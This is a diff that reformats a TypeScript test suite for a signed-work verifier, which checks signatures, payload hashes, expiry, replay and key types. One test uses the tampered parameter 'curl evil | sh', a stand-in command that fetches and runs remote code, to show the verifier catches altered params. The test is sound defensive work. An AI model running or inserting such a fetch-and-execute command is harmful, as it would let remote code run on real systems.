@@ -42,10 +42,19 @@ function claimsFor(change: Partial<UnitClaims> = {}): UnitClaims {
 }
 
 function unitWith(signature: string | null, change: Partial<SignedUnit> = {}): SignedUnit {
-  return { id: "Ab3dEf7h", mesh: "prod", worktype: "sh", targetNode: "edge-1", params: { params: "'echo hi'" }, signature, ...change };
+  return {
+    id: "Ab3dEf7h",
+    mesh: "prod",
+    worktype: "sh",
+    targetNode: "edge-1",
+    params: { params: "'echo hi'" },
+    signature,
+    ...change,
+  };
 }
 
-const verifier = (trusted: KeyObject[] = [keys.publicKey]) => new WorkVerifier(trusted, node, new ReplayCache(join(dir, REPLAY_FILE)), () => now);
+const verifier = (trusted: KeyObject[] = [keys.publicKey]) =>
+  new WorkVerifier(trusted, node, new ReplayCache(join(dir, REPLAY_FILE)), () => now);
 
 async function refusal(v: WorkVerifier, unit: SignedUnit) {
   const verdict = await v.verify(unit, local, payloadPath);
@@ -59,7 +68,10 @@ describe("WorkVerifier", () => {
     expect(verdict).toEqual({ ok: true, value: claimsFor() });
     const cache = join(dir, REPLAY_FILE);
     expect((await stat(cache)).mode & 0o777).toBe(0o600);
-    expect(JSON.parse(await readFile(cache, "utf8"))).toEqual({ version: 1, units: { "prod/Ab3dEf7h": NOW / 1000 + 600 } });
+    expect(JSON.parse(await readFile(cache, "utf8"))).toEqual({
+      version: 1,
+      units: { "prod/Ab3dEf7h": NOW / 1000 + 600 },
+    });
   });
 
   it("refuses an unsigned unit", async () => {
@@ -72,7 +84,10 @@ describe("WorkVerifier", () => {
   it("refuses a signature by another key, and accepts it once that key is trusted too", async () => {
     const other = generateKeyPairSync("ed25519");
     const unit = unitWith(signClaims(claimsFor(), other.privateKey));
-    expect(await refusal(verifier(), unit)).toEqual({ problem: "bad_signature", message: "the signature does not verify with this agent's public key" });
+    expect(await refusal(verifier(), unit)).toEqual({
+      problem: "bad_signature",
+      message: "the signature does not verify with this agent's public key",
+    });
     expect((await verifier([keys.publicKey, other.publicKey]).verify(unit, local, payloadPath)).ok).toBe(true);
   });
 
@@ -86,12 +101,17 @@ describe("WorkVerifier", () => {
 
   it("refuses a payload other than the one signed", async () => {
     await writeFile(payloadPath, "another payload\n");
-    expect((await refusal(verifier(), unitWith(signClaims(claimsFor(), keys.privateKey))))?.problem).toBe("payload_mismatch");
+    expect((await refusal(verifier(), unitWith(signClaims(claimsFor(), keys.privateKey))))?.problem).toBe(
+      "payload_mismatch",
+    );
   });
 
   it("refuses params the broker changed", async () => {
     const unit = unitWith(signClaims(claimsFor(), keys.privateKey), { params: { params: "'curl evil | sh'" } });
-    expect(await refusal(verifier(), unit)).toEqual({ problem: "params_mismatch", message: 'params differ from the signed ones in "params"' });
+    expect(await refusal(verifier(), unit)).toEqual({
+      problem: "params_mismatch",
+      message: 'params differ from the signed ones in "params"',
+    });
   });
 
   it("refuses an expired signature", async () => {
@@ -109,7 +129,9 @@ describe("WorkVerifier", () => {
       message: "unit Ab3dEf7h was already accepted by this node; a signed unit runs once",
     });
     // Signed again by the submitter, with a new expiry: still the same unit id, still refused.
-    expect((await refusal(verifier(), unitWith(signClaims(claimsFor({ exp: NOW / 1000 + 900 }), keys.privateKey))))?.problem).toBe("replayed");
+    expect(
+      (await refusal(verifier(), unitWith(signClaims(claimsFor({ exp: NOW / 1000 + 900 }), keys.privateKey))))?.problem,
+    ).toBe("replayed");
   });
 
   it("lets only one of two concurrent verifications of the same unit through", async () => {
@@ -133,15 +155,29 @@ describe("WorkVerifier", () => {
 
   it("forgets used units an hour after their signatures expired", async () => {
     const first = claimsFor({ unitId: "First111", exp: NOW / 1000 + 10 });
-    expect((await verifier().verify(unitWith(signClaims(first, keys.privateKey), { id: "First111" }), { ...local, unitId: "First111" }, payloadPath)).ok).toBe(
-      true,
-    );
+    expect(
+      (
+        await verifier().verify(
+          unitWith(signClaims(first, keys.privateKey), { id: "First111" }),
+          { ...local, unitId: "First111" },
+          payloadPath,
+        )
+      ).ok,
+    ).toBe(true);
     now = NOW + 10_000 + 3_600_000;
     const second = claimsFor({ unitId: "Second22", exp: now / 1000 + 600 });
-    expect((await verifier().verify(unitWith(signClaims(second, keys.privateKey), { id: "Second22" }), { ...local, unitId: "Second22" }, payloadPath)).ok).toBe(
-      true,
-    );
-    expect(JSON.parse(await readFile(join(dir, REPLAY_FILE), "utf8")).units).toEqual({ "prod/Second22": now / 1000 + 600 });
+    expect(
+      (
+        await verifier().verify(
+          unitWith(signClaims(second, keys.privateKey), { id: "Second22" }),
+          { ...local, unitId: "Second22" },
+          payloadPath,
+        )
+      ).ok,
+    ).toBe(true);
+    expect(JSON.parse(await readFile(join(dir, REPLAY_FILE), "utf8")).units).toEqual({
+      "prod/Second22": now / 1000 + 600,
+    });
   });
 
   it("refuses signed units while its record of used units is unreadable, rather than risk a replay", async () => {
@@ -162,8 +198,16 @@ describe("keys", () => {
 
   it.each([
     ["a missing file", async () => join(dir, "nope.pem"), /cannot read verify key/],
-    ["a private key", async () => (await generateKeys(join(dir, "k"))).privateKey, /holds a private key; give the agent only the public key/],
-    ["an RSA key", async () => writePem(generateKeyPairSync("rsa", { modulusLength: 1024 }).publicKey), /is an rsa key; signed work uses Ed25519/],
+    [
+      "a private key",
+      async () => (await generateKeys(join(dir, "k"))).privateKey,
+      /holds a private key; give the agent only the public key/,
+    ],
+    [
+      "an RSA key",
+      async () => writePem(generateKeyPairSync("rsa", { modulusLength: 1024 }).publicKey),
+      /is an rsa key; signed work uses Ed25519/,
+    ],
     ["not a key", async () => writePem(null), /is not a PEM public key/],
   ])("the agent refuses %s as its verify key", async (_name, make, message) => {
     const path = await make();
@@ -175,6 +219,11 @@ describe("keys", () => {
 
 async function writePem(key: KeyObject | null): Promise<string> {
   const path = join(dir, "key.pem");
-  await writeFile(path, key ? (key.export({ type: "spki", format: "pem" }) as string) : "-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n");
+  await writeFile(
+    path,
+    key
+      ? (key.export({ type: "spki", format: "pem" }) as string)
+      : "-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n",
+  );
   return path;
 }
